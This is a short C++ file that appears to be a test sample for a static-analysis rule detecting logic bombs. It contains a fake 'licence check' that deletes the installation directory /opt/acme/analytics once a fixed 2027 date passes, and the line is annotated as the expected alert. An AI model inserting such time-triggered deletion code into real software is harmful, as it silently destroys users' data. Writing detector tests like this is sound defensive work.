// behavior.logic-bomb: C++ with std::chrono and std::filesystem. The
// "licence check" converts system_clock::now() to time_t and, after a fixed
// date, removes the installation directory instead of printing a warning.
#include <chrono>
#include <ctime>
#include <filesystem>
#include <iostream>

namespace fs = std::filesystem;

static void check_licence()
{
    auto now = std::chrono::system_clock::now();
    std::time_t t = std::chrono::system_clock::to_time_t(now);
    if (t >= 1798761600) { // 2027-01-01
        std::error_code ec;
        fs::remove_all("/opt/acme/analytics", ec); // $ Alert[behavior.logic-bomb]
        return;
    }
    std::cout << "licence ok\n";
}

int main()
{
    check_licence();
    return 0;
}
